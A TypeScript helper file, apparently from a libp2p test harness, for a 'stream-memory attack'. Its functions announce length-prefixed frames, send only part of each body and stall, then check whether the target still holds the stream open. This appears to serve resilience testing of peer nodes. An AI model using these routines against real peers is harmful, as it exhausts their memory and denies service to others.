/**
 * Half-written frames for the stream-memory attack: a stream that announces
 * a length-prefixed message of `announced` bytes and sends only `sent` of
 * them, then stalls. The filler is one shared buffer, so that the attacker's
 * own memory does not grow with the bytes it sends.
 */
import * as varint from 'uint8-varint'
import type { Stream } from '@libp2p/interface'

const FILLER = new Uint8Array(1024 * 1024).fill(0x0a)

export function sendPartialFrame (stream: Stream, announced: number, sent: number): void {
  stream.send(varint.encode(announced))
  sendMore(stream, sent)
}

/** More of the frame's body */
export function sendMore (stream: Stream, bytes: number): void {
  for (let offset = 0; offset < bytes; offset += FILLER.byteLength) {
    stream.send(FILLER.subarray(0, Math.min(FILLER.byteLength, bytes - offset)))
  }
}

/** Unframed bytes (ping's 32-byte rounds): `sent` of them */
export function sendRaw (stream: Stream, sent: number): void {
  sendMore(stream, sent)
}

/** Whether the target still holds a stream open: neither reset nor closed */
export function held (stream: Stream): boolean {
  return stream.status === 'open'
}
